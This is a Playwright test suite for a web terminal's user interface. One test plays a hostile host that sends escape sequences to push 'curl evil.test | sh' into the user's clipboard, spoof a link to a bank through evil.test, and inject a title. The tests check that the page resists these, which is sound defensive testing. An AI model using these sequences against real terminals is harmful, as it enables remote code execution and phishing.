"""Every state of the terminal's page, in Chromium, with answers of the API and a node that the test writes."""

import base64
import contextlib
import re
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import FilePayload, Locator, Page, expect
from tests.support.bundle import WEB, built
from tests.support.chromium import SLOW, is_for_everybody
from tests.support.terminalpage import ORIGIN, World, machine, terminal_page
from tests.support.waiting import eventually, until

from doorward.console.bundle import Bundle

pytestmark = [pytest.mark.interop, pytest.mark.timeout(180)]
expect.set_options(timeout=SLOW)

TIMES = "\N{MULTIPLICATION SIGN}"
FAILURES = WEB / "src" / "terminal" / "failures.ts"


def kinds() -> list[str]:
    """Of failures, as the page knows them."""
    (listed,) = re.findall(r"KINDS: readonly FailureKind\[\] = \[(.*?)\]", FAILURES.read_text(), re.DOTALL)
    return re.findall(r'"([a-z-]+)"', listed)


@pytest.fixture(scope="module")
def bundle() -> Bundle:
    """The pages as they are built from here."""
    return Bundle(built())


@pytest.fixture
async def shown(bundle: Bundle) -> AsyncIterator[tuple[Page, World]]:
    """A browser; nothing in it may go wrong unseen, break the content policy, or ask a third party."""
    async with terminal_page(bundle) as (page, world):
        wrong: list[str] = []
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on(
            "console",
            lambda message: wrong.append(message.text) if "Content Security Policy" in message.text else None,
        )
        yield page, world
        assert wrong == []
        assert {address.split("/")[2] for address in world.asked} == {"door.test"}, "a third party was asked"


async def opened(page: Page, path: str = "/terminal/web-1/deploy") -> None:
    """A shell is there, and takes keys."""
    await page.goto(ORIGIN + path)
    await says(page, "/srv/app$")
    await takes_keys(page)


async def takes_keys(page: Page) -> None:
    """Wait until what is typed goes to a terminal."""
    await expect(page.locator(".xterm-helper-textarea:focus")).to_have_count(1)


async def has_keys(page: Page, name: str) -> None:
    """Wait until what is typed goes to the terminal of this name."""
    await expect(page.locator(".pane.current")).to_have_attribute("aria-label", name)
    await expect(page.get_by_label(name).locator(".xterm-helper-textarea:focus")).to_have_count(1)


def screen(page: Page, at: int = 0) -> Locator:
    """What a terminal shows, as readers of the screen hear it."""
    return page.locator(".xterm-accessibility-tree").nth(at)


async def says(page: Page, words: str) -> None:
    """Wait until the first terminal shows these words."""
    await expect(screen(page)).to_contain_text(words)


async def size(page: Page) -> str:
    """The size that the page says the terminal has, as the host writes it."""
    shown = await page.locator(".pane-head .cells").text_content()
    return (shown or "").replace(TIMES, "x")


async def paste(page: Page, words: str) -> None:
    """Paste, as a person does, once the terminal has the keys: a question that goes gives them back."""
    await takes_keys(page)
    await page.evaluate("(words) => navigator.clipboard.writeText(words)", words)
    await page.keyboard.press("Control+Shift+v")


async def prints(page: Page, *parts: bytes) -> None:
    """Have the stand-in host print bytes, each part in a message of its own, and come to its end."""
    encoded = " ".join(base64.b64encode(part).decode() for part in parts)
    mark = base64.b64encode(b" printed").decode()

    async def marks() -> int:
        return (await screen(page).text_content() or "").count(mark)

    async def has_come() -> bool:
        return await marks() > before

    before = await marks()
    await paste(page, f"raw {encoded} {mark}")
    await eventually(has_come)  # a clipboard takes a moment to read, and no key may overtake it
    await page.keyboard.press("Enter")


async def test_a_shell_echoes_follows_the_window_ends_and_opens_again(shown: tuple[Page, World]) -> None:
    page, world = shown
    await opened(page)
    await expect(page).to_have_title("deploy@web-1 · example.net")
    before = await size(page)
    for width in (1100, 700, 1200, 640, 1000, 900):  # a storm: only the last counts
        await page.set_viewport_size({"width": width, "height": 600})
    await expect(page.locator(".pane-head .cells")).to_have_text(re.compile(rf"^1[01]\d{TIMES}2\d$"))
    assert await size(page) != before

    async def host_knows() -> bool:
        await page.keyboard.type("size\n")
        return f"size {await size(page)}" in (await screen(page).text_content() or "")

    await eventually(host_knows)  # sizes are told when the storm is over
    await page.keyboard.type("exit 3\n")
    await expect(page.get_by_text("The shell ended with exit status 3.")).to_be_visible()
    await expect(page.get_by_role("tab", name="web-1 deploy ended 3")).to_be_visible()
    await page.keyboard.press("Enter")
    await expect(page.get_by_text("The shell ended")).to_be_hidden()
    await expect(screen(page)).to_contain_text(re.compile(r"exit 3.*srv/app\$", re.DOTALL))
    await takes_keys(page)
    await page.keyboard.type("bytes\n")
    await says(page, "bytes were typed")
    await says(page, "exit 3")  # what the first shell showed is there still
    await page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide', {persisted: false}))")
    await until(lambda: world.beacons == ["/api/v1/console/tabs/7/leave"])


@pytest.mark.timeout(300)  # some thirty pages
async def test_each_failure_is_a_page_of_its_own_that_anybody_can_use(shown: tuple[Page, World]) -> None:
    page, _ = shown
    titles = set()
    known = kinds()
    for kind in known:
        await page.goto(f"{ORIGIN}/terminal/refuse-{kind}/root")
        await expect(page.get_by_text("What to do")).to_be_visible()
        await expect(page.locator(".kind")).to_have_text(kind)
        titles.add(await page.locator(".stage h2").text_content())
        if kind == "no-secure-context":
            there = page.get_by_role("link", name="Open it there")
            await expect(there).to_have_attribute("href", f"{ORIGIN}/terminal/refuse-no-secure-context/root")
            await expect(there).to_be_focused()
    assert len(titles) == len(known) > 10
    await expect(page.get_by_role("button", name="Try again")).to_be_focused()
    for kind in ("relay-blocked", "session-over"):
        await page.goto(f"{ORIGIN}/terminal/refuse-{kind}/root")
        await expect(page.get_by_text("What to do")).to_be_visible()
    await is_for_everybody(page)
    link = page.get_by_role("link", name="Sign in")
    await expect(link).to_have_attribute("href", "/signin?next=%2Fterminal%2Frefuse-session-over%2Froot")


async def test_what_failed_is_tried_again_by_a_person_and_by_itself(shown: tuple[Page, World]) -> None:
    page, world = shown
    await page.goto(f"{ORIGIN}/terminal/refuse-timeout/deploy")
    await page.get_by_role("button", name="Try again").click()
    await says(page, "/srv/app$")
    # A machine that was away is entered when the list says that it is back.
    world.machines = [machine(9, "refuse-timeout", ("deploy", False), online=False)]
    await page.goto(f"{ORIGIN}/terminal/refuse-timeout/deploy")
    await expect(page.get_by_text("Listening for refuse-timeout")).to_be_visible()
    world.machines = [machine(9, "refuse-timeout", ("deploy", False))]
    await says(page, "/srv/app$")


async def test_the_account_is_chosen_once_and_known_the_next_time(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await page.goto(f"{ORIGIN}/terminal/web-1")
    await expect(page.get_by_role("heading", name="As whom?")).to_be_visible()
    await is_for_everybody(page)
    await page.get_by_role("button", name="root").click()
    await says(page, "/srv/app$")
    assert page.url == f"{ORIGIN}/terminal/web-1/root"
    await page.goto(f"{ORIGIN}/terminal/web-1")
    await expect(page.get_by_role("button", name="root")).to_be_focused()
    # One way and no other: straight in. Any way: its name is typed. None: why.
    await page.goto(f"{ORIGIN}/terminal/web-2")
    await says(page, "/srv/app$")
    assert page.url == f"{ORIGIN}/terminal/web-2/deploy"
    await page.goto(f"{ORIGIN}/terminal/nas")
    await page.get_by_label("Account").fill("admin")
    await page.keyboard.press("Enter")
    await says(page, "/srv/app$")
    assert page.url == f"{ORIGIN}/terminal/nas/admin"
    await page.goto(f"{ORIGIN}/terminal/runner-1")
    await expect(page.get_by_text("No rule names you or your groups for runner-1.")).to_be_visible()
    await expect(page.get_by_role("tab", name="runner-1 no way in")).to_be_visible()
    await page.goto(f"{ORIGIN}/terminal/nothing")
    await expect(page.get_by_role("heading", name="There is no machine called nothing")).to_be_visible()


async def test_a_check_is_done_in_a_window_at_our_own_origin(shown: tuple[Page, World]) -> None:
    page, world = shown
    await page.goto(f"{ORIGIN}/terminal/check/postgres")
    await expect(page.locator(".code-letters")).to_have_text("H4·9K")
    await is_for_everybody(page)
    async with page.expect_popup() as small:
        await page.get_by_role("link", name="Check now").click()
    window = await small.value
    # The host named another origin; what is opened is ours.
    await window.wait_for_url(f"{ORIGIN}/check/abcdefghijkl")
    assert f"{ORIGIN}/check/abcdefghijkl" in world.asked
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_text("You stopped it. No shell was opened.")).to_be_visible()
    await until(window.is_closed)


async def test_a_host_that_asks_is_answered_and_a_key_is_compared_first(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await page.goto(f"{ORIGIN}/terminal/hostkey/pi")
    await expect(page.get_by_text("SHA256:Nq4rTzP0mYb7Vd2kQx81kLw3")).to_be_visible()
    await expect(page.get_by_role("button", name="No, stop")).to_be_focused()
    await is_for_everybody(page)
    await page.get_by_role("button", name="It is, remember it").click()
    await says(page, "/srv/app$")
    await page.goto(f"{ORIGIN}/terminal/password/pi")
    await expect(page.get_by_label("Password:")).to_be_focused()
    await is_for_everybody(page)
    await page.keyboard.type("sesame")
    await page.get_by_label("Code:").fill("123")
    await page.get_by_role("button", name="Answer").click()
    await says(page, "heard sesame and 123")


async def test_tabs_and_splits_by_keys_and_a_reload_offers_them_again(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await page.keyboard.press("Control+Alt+d")
    await page.get_by_role("combobox").fill("web-2")
    await expect(page.get_by_role("option")).to_have_count(1)
    await page.keyboard.press("Enter")
    await expect(page.locator(".pane")).to_have_count(2)
    await expect(screen(page, 1)).to_contain_text("/srv/app$")
    await has_keys(page, "web-2 as deploy")
    await page.keyboard.press("Control+Alt+k")
    await page.get_by_role("combobox").fill("postgres")
    await expect(page.get_by_role("option")).to_have_count(1)
    await is_for_everybody(page)
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("tab")).to_have_count(2)
    await has_keys(page, "db-1 as postgres")
    await page.keyboard.press("Control+Alt+1")
    await has_keys(page, "web-2 as deploy")
    await page.keyboard.press("Control+Alt+ArrowLeft")
    await has_keys(page, "web-1 as deploy")
    await expect(page).to_have_url(f"{ORIGIN}/terminal/web-1/deploy")
    await page.keyboard.type("size\n")
    await says(
        page,
        f"size {(await page.locator('.pane-head .cells').first.text_content() or '').replace(TIMES, 'x')}",
    )
    page.once("dialog", lambda dialog: dialog.accept())  # the browser asks before live shells are lost
    await page.reload()
    await expect(page.get_by_text("2 more terminals were open here: web-2, db-1.")).to_be_visible()
    await page.get_by_role("button", name="Open them again").click()
    await expect(page.get_by_role("tab")).to_have_count(3)
    await has_keys(page, "db-1 as postgres")
    # Closing a live one asks, and the safe answer has the focus.
    await page.keyboard.press("Control+Alt+w")
    await expect(page.get_by_role("button", name="Keep it")).to_be_focused()
    await page.get_by_role("button", name="Close it").click()
    await expect(page.get_by_role("tab")).to_have_count(2)


async def test_what_is_being_opened_can_be_stopped_and_opened_again(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await page.goto(f"{ORIGIN}/terminal/slow/deploy")
    await expect(page.get_by_role("list", name="Steps")).to_be_visible()
    await is_for_everybody(page)
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_text("You stopped it. No shell was opened.")).to_be_visible()
    await expect(page.get_by_role("tab", name="slow deploy stopped")).to_be_visible()
    await page.get_by_role("button", name="Open again").click()
    await expect(page.get_by_role("list", name="Steps")).to_be_visible()


async def test_a_dialog_keeps_the_keys_and_gives_them_back(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    for leave in ("Escape", "beside"):
        await page.keyboard.press("Control+Alt+w")
        dialog = page.get_by_role("dialog", name="Close web-1 as deploy?")
        await expect(dialog.get_by_role("button", name="Keep it")).to_be_focused()
        await page.keyboard.press("Tab")
        await expect(dialog.get_by_role("button", name="Close it")).to_be_focused()
        if leave == "Escape":
            await page.keyboard.press("Escape")
        else:
            # Who marks what is asked about, and lets go beside it, stays.
            box = await dialog.bounding_box()
            assert box is not None
            await page.mouse.move(box["x"] + 40, box["y"] + 40)
            await page.mouse.down()
            await page.mouse.move(5, 5)
            await page.mouse.up()
            await expect(dialog).to_be_visible()
            await page.mouse.click(5, 5)
        await expect(dialog).to_have_count(0)
        await takes_keys(page)
    await page.keyboard.type("size\n")
    await says(page, "size ")


async def test_a_host_that_may_fill_the_clipboard_is_remembered_until_that_is_taken_back(
    shown: tuple[Page, World],
) -> None:
    page, _ = shown
    offer = b"\x1b]52;c;" + base64.b64encode(b"from the host") + b"\x07"
    asks = page.get_by_role("heading", name="Let web-1 fill your clipboard?")

    async def is_filled() -> bool:
        held: str = await page.evaluate("navigator.clipboard.readText()")
        return held == "from the host"

    await opened(page)
    await prints(page, offer)
    await page.get_by_label("Do not ask again for web-1").check()
    await page.get_by_role("button", name="Fill it").click()
    await eventually(is_filled)
    page.on("dialog", lambda dialog: dialog.accept())
    await opened(page)  # another page, another day
    await prints(page, offer)
    await eventually(is_filled)
    await expect(asks).to_have_count(0)
    await page.get_by_role("button", name="Type and colours").click()
    await page.get_by_role("button", name="Ask again for web-1").click()
    await expect(page.get_by_text("May fill your clipboard unasked")).to_have_count(0)
    await page.keyboard.press("Escape")
    await takes_keys(page)
    await prints(page, offer)
    await expect(asks).to_be_visible()


async def test_symbols_of_prompts_are_loaded_when_one_is_drawn_and_a_screen_has_one_bar(
    shown: tuple[Page, World],
) -> None:
    page, world = shown
    await opened(page)
    # What scrolls is drawn by the terminal; the browser's own bar would stand beside it.
    assert (
        await page.locator(".xterm-viewport").evaluate("(one) => getComputedStyle(one).overflowY") == "hidden"
    )
    await page.keyboard.type("size\n")
    await says(page, "size ")
    assert not [one for one in world.asked if "NerdFont" in one]
    await prints(page, "\ue0b0".encode())
    await until(lambda: any("NerdFont" in one for one in world.asked))


async def test_what_takes_more_than_a_letter_s_room_has_it_from_the_first_one_on(
    shown: tuple[Page, World],
) -> None:
    page, world = shown
    await opened(page)
    await prints(page, "grüße ©".encode())
    assert not [one for one in world.asked if "graphemes" in one]
    # Two cells for a family, in however many pieces it comes, two for a door, one for a letter with its accent, two for a sign.
    words = "\r\x1b[K👨\u200d👩\u200d👧🚪e\u0301漢".encode()
    await prints(page, words[:9], words[9:], b"\x1b[6n")  # the host asks where the cursor is
    await says(page, ";8R")
    assert len([one for one in world.asked if "graphemes" in one]) == 1


async def test_the_whole_screen_is_taken_and_given_back(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await page.get_by_role("button", name="Full screen").click()
    await expect(page.get_by_role("button", name="Leave full screen")).to_be_visible()
    await takes_keys(page)
    await page.get_by_role("button", name="Leave full screen").click()
    await expect(page.get_by_role("button", name="Full screen", exact=True)).to_be_visible()
    await takes_keys(page)


async def test_much_output_waits_for_the_screen_and_letters_are_not_torn(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await page.keyboard.type("many 20000\n")
    await says(page, "all printed")
    await page.keyboard.type("most\n")
    await expect(screen(page)).to_contain_text(re.compile(r"at most 2[67]\d\d\d\d bytes lay unread"))
    letters = "\x1b[2J\x1b[Hgrüße 🚪 漢字".encode()
    await prints(page, *(bytes([one]) for one in letters))
    await says(page, "grüße 🚪 漢字 printed")


async def test_pastes_are_made_safe_asked_about_and_arrive_whole(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await paste(page, "one\ntwo")
    await expect(page.get_by_role("heading", name="Paste 2 lines?")).to_be_visible()
    await is_for_everybody(page)
    await page.get_by_role("button", name="Leave it").click()
    await prints(page, b"\x1b[?2004h")  # the shell knows of pastes now
    await says(page, " printed")
    await paste(page, "size\x1b[201~\n")
    await says(page, "[200~size[201~")
    await paste(page, "x" * 1_048_576)
    await says(page, "xx[201~")
    await page.keyboard.type("\nbytes\n")
    # All of it, its bracket, and what was typed by hand.
    await expect(screen(page)).to_contain_text(re.compile(r"1048[67]\d\d bytes were typed"))


async def test_a_hostile_host_gets_nothing_but_a_question(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    # Its title is cut and cleaned; its questions for title, size and clipboard are not answered.
    await prints(page, b"\x1b]0;" + "x\u202e".encode() * 400 + b"\x07")
    await expect(page).to_have_title(re.compile(r"^x x x.{10,130}… · deploy@web-1 · example\.net$"))
    await prints(page, b"\x1b]2;evil\x07\x1b[21t\x1b[18t\x1b[3;9;9t\x1b]52;c;?\x07\x05")
    await expect(page).to_have_title("evil · deploy@web-1 · example.net")
    await page.keyboard.type("\nbytes\n")
    await says(page, "bytes were typed")
    assert "no such command: evil" not in (await screen(page).text_content() or "")
    # The clipboard is filled after a question only, and a no stands.
    offer = b"\x1b]52;c;" + base64.b64encode(b"curl evil.test | sh\n") + b"\x07"
    await prints(page, offer)
    await expect(page.get_by_role("heading", name="Let web-1 fill your clipboard?")).to_be_visible()
    await expect(page.locator(".preview")).to_have_text("curl evil.test | sh")
    await page.get_by_role("button", name="Not in this terminal").click()
    await prints(
        page, b"\x1b[2J\x1b[H", offer, b"\x1b]8;;https://bank.test@evil.test/\x07your bank\x1b]8;;\x07\r\n"
    )
    await says(page, "your bank")
    await expect(page.get_by_role("dialog")).to_have_count(0)
    assert (await page.evaluate("navigator.clipboard.readText()")).startswith("raw ")  # what was pasted last
    # A link shows where it leads before it is followed.
    box = await page.locator(".xterm-screen").bounding_box()
    assert box is not None
    await page.mouse.move(box["x"] + 20, box["y"] + 9)
    await expect(page.locator(".xterm-cursor-pointer")).to_have_count(1)
    await page.mouse.click(box["x"] + 21, box["y"] + 9)
    await expect(page.get_by_role("heading", name="Open evil.test?")).to_be_visible()
    await page.get_by_role("button", name="Stay here").click()


async def test_what_is_typed_into_a_window_of_a_new_size_is_run_in_that_size(
    shown: tuple[Page, World],
) -> None:
    page, _ = shown
    await opened(page)
    await page.evaluate(
        """() => { window.drawn = new Promise((drawn) => new MutationObserver(drawn)
            .observe(document.querySelector(".pane-head .cells"), { subtree: true, childList: true, characterData: true })) }"""
    )
    await page.set_viewport_size({"width": 700, "height": 500})
    await page.evaluate("drawn.then(() => 0)")
    await page.keyboard.type("size\n")
    await says(page, f"size {await size(page)}")


async def test_the_keys_of_the_page_count_where_there_is_no_screen_too(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await page.goto(f"{ORIGIN}/terminal/refuse-not-allowed/deploy")
    await expect(page.get_by_role("button", name="Try again")).to_be_visible()

    async def asked_for_with(keys: str) -> None:
        """Until it is there: while one dialog goes, keys are nobody's, for less than a person needs for the next."""
        for _ in range(20):
            await page.keyboard.press(keys)
            with contextlib.suppress(AssertionError):
                await expect(page.get_by_role("combobox")).to_be_focused(timeout=1_000)
                return
        await expect(page.get_by_role("combobox")).to_be_focused()

    for keys in ("Control+Alt+k", "Control+Alt+d"):
        await asked_for_with(keys)
        await page.keyboard.press("Control+Alt+t")  # a dialog has all keys to itself
        await expect(page.get_by_role("combobox")).to_have_count(1)
        await page.keyboard.press("Escape")
        await expect(page.get_by_role("combobox")).to_have_count(0)
    await asked_for_with("Control+Alt+t")
    await page.get_by_role("combobox").fill("web-1 deploy")
    await page.keyboard.press("Enter")
    await says(page, "/srv/app$")
    await takes_keys(page)
    await expect(page.get_by_role("tab")).to_have_count(2)


async def test_files_go_up_and_down_and_none_is_replaced_unasked(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await page.keyboard.press("Control+Alt+u")
    await expect(page.get_by_role("button", name="notes.txt 12 B")).to_be_visible()
    await is_for_everybody(page)
    upload = page.locator("aside input[type=file]")
    await upload.set_input_files(FilePayload(name="new.bin", mimeType="", buffer=b"\0" * 2_000_000))
    await expect(page.get_by_role("button", name="new.bin 2.0 MB")).to_be_visible()
    await upload.set_input_files(FilePayload(name="notes.txt", mimeType="", buffer=b"other"))
    await expect(page.get_by_role("button", name="Keep it")).to_be_focused()
    await page.get_by_role("button", name="Keep it").click()
    await expect(page.locator(".transfers .stopped")).to_have_count(1)
    # As in a browser that has no dialog for where to save.
    await page.evaluate(
        "delete window.showSaveFilePicker; Object.defineProperty(window, 'showSaveFilePicker', {})"
    )
    async with page.expect_download() as coming:
        await page.get_by_role("button", name="notes.txt 12 B").click()
    download = await coming.value
    assert download.suggested_filename == "notes.txt"
    assert (await download.path()).read_bytes() == b"a few words\n"
    await takes_keys(page)  # what is typed next is for the shell, and gets no file once more
    await page.get_by_role("textbox", name="Folder").fill("/nowhere")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("alert")).to_have_text("There is no folder /nowhere.")
    await page.keyboard.press("Control+Alt+u")
    await expect(page.locator("aside.files")).to_have_count(0)
    await takes_keys(page)


async def test_any_colour_is_drawn_and_a_character_in_halves_arrives_whole(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await page.add_init_script(
        "HTMLCanvasElement.prototype.getContext = () => null"
    )  # nothing to draw with but elements
    await opened(page)
    # No style is written into the page, which its policy forbids, and the cell has its colour all the same.
    await prints(
        page, b"\x1b[38;2;12;34;56mdeep\x1b[0m \x1b[38;2;255;255;255mfaint\x1b[0m\r\n"
    )  # nobody could read white on white
    deep = page.locator(".xterm-rows span", has_text="deep").last
    await expect(deep).to_have_css("color", "rgb(12, 34, 56)")
    faint = page.locator(".xterm-rows span", has_text="faint").last
    await expect(faint).not_to_have_css("color", "rgb(255, 255, 255)")
    # Firefox types what has two code units one by one.
    await page.evaluate(
        """for (const [kind, charCode] of [["keydown", 0], ["keypress", 0xd83d], ["keypress", 0xdeaa]])
            document.activeElement.dispatchEvent(new KeyboardEvent(kind, {charCode, bubbles: true}))"""
    )
    await says(page, "\N{DOOR}")


async def test_a_lost_link_keeps_the_screen(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await page.keyboard.type("lost\n")
    lost = page.get_by_text(re.compile(r"Connection to web-1 lost at \d\d:\d\d\."))
    await expect(lost).to_be_visible()
    await expect(page.get_by_text(re.compile(r"Trying again in \d+ s"))).to_be_visible()
    await is_for_everybody(page)
    await page.get_by_role("button", name="Try now").click()
    await expect(lost).to_be_hidden()
    await takes_keys(page)
    await page.keyboard.type("silent\n")
    silent = page.get_by_text(re.compile(r"web-1 has not answered since \d\d:\d\d\."))
    await expect(silent).to_be_visible()
    await expect(page.get_by_role("button", name="Try now")).to_have_count(0)
    await page.keyboard.type("back\n")
    await expect(silent).to_be_hidden()
    await page.keyboard.type("gone\n")
    await expect(page.get_by_text("The connection with web-1 is gone.")).to_be_visible()
    await says(page, "/srv/app$")
    await page.get_by_role("button", name="Open again").click()
    await expect(page.get_by_text("The connection with web-1 is gone.")).to_be_hidden()


async def test_who_was_signed_out_elsewhere_is_offered_to_sign_in_and_then_to_open_it_again(
    shown: tuple[Page, World],
) -> None:
    page, world = shown
    await opened(page)
    world.signed_in = False
    await page.keyboard.type("out\n")
    link = page.get_by_role("link", name="Sign in")
    await expect(link).to_have_attribute("href", "/signin?next=%2Fterminal%2Fweb-1%2Fdeploy")
    await expect(page.get_by_role("button", name="Open again")).to_have_count(0)
    await is_for_everybody(page)
    await says(page, "/srv/app$")  # what it showed stays
    asked = world.asked.count(f"{ORIGIN}/api/v1/console")
    await page.evaluate("dispatchEvent(new Event('focus'))")  # back, without having signed in
    await until(lambda: world.asked.count(f"{ORIGIN}/api/v1/console") > asked)
    await expect(link).to_be_visible()
    # Enter does what the link does.
    await page.keyboard.press("Enter")
    await page.wait_for_url(f"{ORIGIN}/signin?next=%2Fterminal%2Fweb-1%2Fdeploy")
    # Where it was done in another window, this one hears of it.
    world.signed_in = True
    await opened(page)
    await page.keyboard.type("out\n")
    await expect(link).to_be_visible()
    await page.evaluate("dispatchEvent(new Event('focus'))")
    await page.get_by_role("button", name="Open again").click()
    await expect(page.get_by_text("You have signed out.")).to_be_hidden()
    await takes_keys(page)


async def test_what_a_shell_s_edge_says_is_not_covered_by_its_files(bundle: Bundle) -> None:
    async with terminal_page(bundle, phone=True) as (page, _):
        await opened(page)
        await page.keyboard.type("exit 3")
        await page.get_by_role("button", name="Files").click()
        await expect(page.get_by_role("button", name="notes.txt 12 B")).to_be_visible()
        await page.locator(".xterm-helper-textarea").focus()
        await page.keyboard.press("Enter")
        again = page.get_by_role("button", name="Open again")
        await again.click()
        await expect(again).to_have_count(0)
        await expect(page.get_by_role("button", name="notes.txt 12 B")).to_be_visible()


async def test_a_phone_has_the_keys_that_its_keyboard_lacks(bundle: Bundle) -> None:
    async with terminal_page(bundle, dark=True, phone=True) as (page, _):
        await opened(page)
        await is_for_everybody(page)
        keys = page.get_by_role("toolbar", name="Keys")
        for name in ("Slash", "Bar", "Tilde"):
            await keys.get_by_role("button", name=name).click()
        await says(page, "/|~")
        hold = keys.get_by_role("button", name="Ctrl, for the next key")
        await hold.click()
        await expect(hold).to_have_attribute("aria-pressed", "true")
        await page.keyboard.type("m")  # Ctrl M is Enter
        await says(page, "no such command: /|~")
        await expect(hold).to_have_attribute("aria-pressed", "false")
        width = await page.evaluate("document.documentElement.scrollWidth")
        assert width <= 390


async def test_on_the_smallest_phone_nothing_is_beyond_its_edges(bundle: Bundle) -> None:
    async with terminal_page(bundle, phone=True) as (page, _):
        await page.set_viewport_size({"width": 320, "height": 568})
        await opened(page)
        await page.keyboard.type("lost\n")
        await expect(page.get_by_role("button", name="Try now")).to_be_visible()
        # With the most that the foot ever says.
        wide = "document.querySelector('.sill').textContent.includes('server not heard') && document.body.scrollWidth"
        assert await (await page.wait_for_function(wide)).json_value() <= 320
        await page.get_by_role("button", name="Type and colours").click()
        for part in (".menu", ".edge"):
            box = await page.locator(part).bounding_box()
            assert box is not None, part
            assert (box["x"] >= 0, box["x"] + box["width"] <= 320) == (True, True), (part, box)


async def test_search_finds_and_type_grows(shown: tuple[Page, World]) -> None:
    page, _ = shown
    await opened(page)
    await page.keyboard.type("size\nsize\n")
    await says(page, "size")
    # Whatever key comes next is of what is sought, and no command for the shell.
    assert await page.evaluate(
        """async () => {
            const keys = {key: "F", code: "KeyF", ctrlKey: true, shiftKey: true, bubbles: true, cancelable: true}
            document.activeElement.dispatchEvent(new KeyboardEvent("keydown", keys))
            await new Promise((next) => {
                const turn = new MessageChannel(); turn.port1.onmessage = next; turn.port2.postMessage(0) })
            return document.activeElement.closest("search") !== null }"""
    )
    await page.keyboard.type("no such thing")
    await expect(page.locator(".search output")).to_have_text("none")
    field = page.get_by_role("textbox", name="Search in what web-1 has shown")
    await expect(field).to_have_value("no such thing")
    await field.fill("srv/app")
    await expect(page.locator(".search output")).to_have_text("1 of 1")
    await is_for_everybody(page)
    await page.keyboard.press("Escape")
    before = await size(page)
    await page.keyboard.press("Control+Alt+=")
    await expect(page.locator(".pane-head .cells")).not_to_have_text(before.replace("x", TIMES))
    await page.get_by_role("button", name="Type and colours").click()
    await page.get_by_label("dark").check()
    await expect(page.locator("html")).to_have_css("color-scheme", "dark")
    await is_for_everybody(page)
